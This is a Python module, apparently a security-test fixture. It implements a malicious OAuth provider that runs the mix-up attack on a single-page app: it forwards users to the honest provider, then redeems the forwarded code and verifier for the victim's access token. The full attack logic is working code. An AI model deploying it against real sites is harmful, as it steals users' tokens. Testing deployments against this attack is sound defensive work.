"""A malicious OAuth provider that runs the mix-up attack of RFC 9700 §4.4.

A deployment configured with two providers trusts both to send the user
back. This one is the attacker's (or a compromised one): when the SPA sends
a user to its authorize endpoint, it forwards the browser to the honest
provider's authorize endpoint, keeping the SPA's own ``state`` and PKCE
challenge and naming the SPA's client id and GitHub callback URL there. The
user consents at the honest provider (it is the real GitHub page), and the
honest code comes back to the SPA. A vulnerable SPA matches it to the
attempt it started with this provider and hands the code, with the verifier,
to the function for this provider, so it lands at this provider's token
endpoint; there the attacker redeems it at the public function as the honest
provider and holds the user's token.

Everything it receives is kept in ``seen``; every exchange it managed at the
function is kept in ``stolen``.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl, urlencode, urlsplit

import httpx

from local.http_server import LoopbackServer, LoopbackService, QuietHandler


@dataclass(frozen=True)
class Victim:
    """What the attacker knows of the deployment: all of it is public (``config.js``, the site's URL)."""

    authorize_url: str
    """The honest provider's authorize endpoint."""
    client_id: str
    """The SPA's client id at the honest provider."""
    redirect_uri: str
    """The SPA's callback URL registered at the honest provider."""
    provider: str
    """The honest provider's name at the function."""
    function_url: str
    site_origin: str


@dataclass(frozen=True)
class Seen:
    method: str
    path: str
    query: str
    body: str


class HostileProvider(LoopbackService):
    """Serves ``/authorize`` (forwarding to the victim's honest provider) and ``/token`` (redeeming what it gets)."""

    def __init__(self) -> None:
        self._server = LoopbackServer(_Handler, log_name="hostile")
        self._server.hostile = self  # type: ignore[attr-defined]
        self.victim: Victim | None = None
        self.seen: list[Seen] = []
        self.stolen: list[dict[str, Any]] = []
        self._lock = threading.Lock()

    @property
    def urls(self) -> dict[str, str]:
        return {"authorize": self.origin + "/authorize", "token": self.origin + "/token"}

    def attack(self, victim: Victim) -> HostileProvider:
        self.victim = victim
        self._server.start("hostile-provider")
        return self

    def received(self, value: str) -> bool:
        """Whether ``value`` reached this provider in any request (path, query or body)."""
        with self._lock:
            return any(value in f"{s.path}?{s.query}\n{s.body}" for s in self.seen)

    def _record(self, seen: Seen) -> None:
        with self._lock:
            self.seen.append(seen)

    def _redeem(self, form: dict[str, str]) -> None:
        """Trade the code and verifier the function forwarded here for the victim's token."""
        victim = self.victim
        assert victim is not None
        request = {
            "provider": victim.provider,
            "code": form.get("code", ""),
            "redirect_uri": victim.redirect_uri,
            "code_verifier": form.get("code_verifier", ""),
        }
        answer = httpx.post(
            victim.function_url.rstrip("/") + "/token", json=request, headers={"Origin": victim.site_origin}, timeout=5
        )
        if answer.status_code == 200:
            with self._lock:
                self.stolen.append(answer.json())


class _Handler(QuietHandler):
    server: LoopbackServer

    @property
    def hostile(self) -> HostileProvider:
        return self.server.hostile  # type: ignore[attr-defined]

    def _read(self) -> Seen:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace")
        parts = urlsplit(self.path)
        seen = Seen(self.command, parts.path, parts.query, body)
        self.hostile._record(seen)
        return seen

    def do_GET(self) -> None:
        seen = self._read()
        victim = self.hostile.victim
        if seen.path != "/authorize" or victim is None:
            self.send_body(404, [("Content-Type", "text/plain")], b"")
            return
        asked = dict(parse_qsl(seen.query))
        # The SPA's own state and challenge, sent on to the honest provider for the SPA's app there.
        forward = {
            "response_type": "code",
            "client_id": victim.client_id,
            "redirect_uri": victim.redirect_uri,
            "scope": "read:user",
            "state": asked.get("state", ""),
        }
        if "code_challenge" in asked:
            forward["code_challenge"] = asked["code_challenge"]
            forward["code_challenge_method"] = asked.get("code_challenge_method", "S256")
        self.send_body(302, [("Location", f"{victim.authorize_url}?{urlencode(forward)}")], b"")

    def do_POST(self) -> None:
        seen = self._read()
        if seen.path != "/token":
            self.send_body(404, [("Content-Type", "text/plain")], b"")
            return
        form = dict(parse_qsl(seen.body))
        self.hostile._redeem(form)
        body = json.dumps({"error": "invalid_grant", "error_description": "Try again."}).encode()
        self.send_body(400, [("Content-Type", "application/json"), ("Cache-Control", "no-store")], body)
